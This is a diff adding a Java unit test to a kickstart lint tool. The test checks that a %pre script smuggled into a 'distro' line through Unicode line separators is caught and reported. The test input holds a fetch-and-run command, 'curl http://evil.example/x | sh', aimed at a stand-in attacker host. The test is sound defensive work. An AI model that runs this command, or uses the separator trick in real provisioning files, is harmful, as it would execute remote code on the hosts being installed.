@@ -134,6 +134,21 @@ class LintCommandTest {
   }
 
   @Test
+  void aPreBehindALineSeparatorIsSeenAsPykickstartSeesIt() throws Exception {
+    Path web01 = renderExample().resolve("web01.lab.example.com.ks");
+    Path bad =
+        write(
+            "u2028.ks",
+            Files.readString(web01)
+                .replace(
+                    "distro rocky9-x86_64 (",
+                    "distro rocky9-x86_64\u2028%pre\u2028curl http://evil.example/x | sh\u2028%end"
+                        + "\u2028# ("));
+    assertThat(lint(bad.toString())).isEqualTo(1);
+    assertThat(err.toString()).contains(bad + ":5: error: undeclared %pre: ");
+  }
+
+  @Test
   void withTheInventoryTheErrorNamesTheProfile() throws Exception {
     Path bad = injected(renderExample());
     assertThat(lint("--inventory", EXAMPLE.toString(), bad.toString())).isEqualTo(1);
